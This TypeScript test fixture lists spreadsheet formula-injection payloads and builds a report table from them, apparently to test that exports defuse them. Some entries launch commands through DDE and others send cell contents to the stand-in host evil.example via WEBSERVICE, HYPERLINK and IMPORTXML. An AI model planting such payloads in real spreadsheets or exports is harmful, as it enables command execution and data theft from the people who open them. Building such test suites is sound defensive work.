import type { Cell, Table } from '../../../../src/run/reports/rows.ts';

/** Texts that a spreadsheet takes for a formula, or for a command, where nobody defuses them (OWASP's list, and more). */
export const PAYLOADS: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "=2+5+cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1;"click")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
  '=DDE("cmd";"/C calc";"x")',
  '"=1+1',
  "'=1+1",
  '"",=1+1,""',
  'x;=1+1;',
  'x";=1+1;"',
  'x,=1+1,',
  'x\t=1+1\t',
  'x\r\n=1+1\r\n',
  'x\n"=1+1',
  'x|=1+1',
  '=1+1";=1+1',
  '=1+1<script>alert(1)</script>',
  '%0A=1+1',
  '_x003D_1+1',
];

/** A report with the payloads as titles and cells, beside values that are none. */
export function payloadTable(): Table {
  return {
    name: "=1+1'[x]",
    timeZone: 'Europe/Amsterdam',
    columns: [
      { name: 'text', title: '=1+1', type: 'text' },
      { name: 'list', title: '@SUM(1)', type: 'list' },
      { name: 'number', title: '-1', type: 'number' },
      { name: 'date', title: '\t=1', type: 'date' },
    ],
    rows: (async function* (): AsyncGenerator<Cell[]> {
      for (const text of PAYLOADS) yield [text, ['a', text], -1.5, new Date('2026-07-01T12:00:00Z')];
    })(),
  };
}
